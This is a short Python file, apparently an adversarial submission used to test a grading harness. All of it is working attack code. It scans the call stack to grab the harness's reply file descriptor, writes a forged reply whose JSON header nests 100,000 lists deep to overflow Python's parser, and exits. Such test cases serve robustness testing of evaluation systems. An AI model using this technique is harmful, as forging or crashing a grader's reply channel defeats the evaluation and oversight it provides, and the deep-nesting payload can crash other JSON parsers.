# @@include assignments/q1_expressivity.py
# Attack: a forged reply whose JSON header nests 100,000 lists deep, deeper than Python's json parser can recurse.
import os as _os
import struct as _struct
import sys as _sys

import protocol as _protocol


def _reply_fd():
    frame = _sys._getframe()
    while frame is not None:
        if "reply_fd" in frame.f_locals:
            return frame.f_locals["reply_fd"]
        frame = frame.f_back


_header = b"[" * 100_000 + b"]" * 100_000
_os.write(_reply_fd(), _protocol.MAGIC + _struct.pack("<Q", len(_header)) + _header)
_os._exit(0)
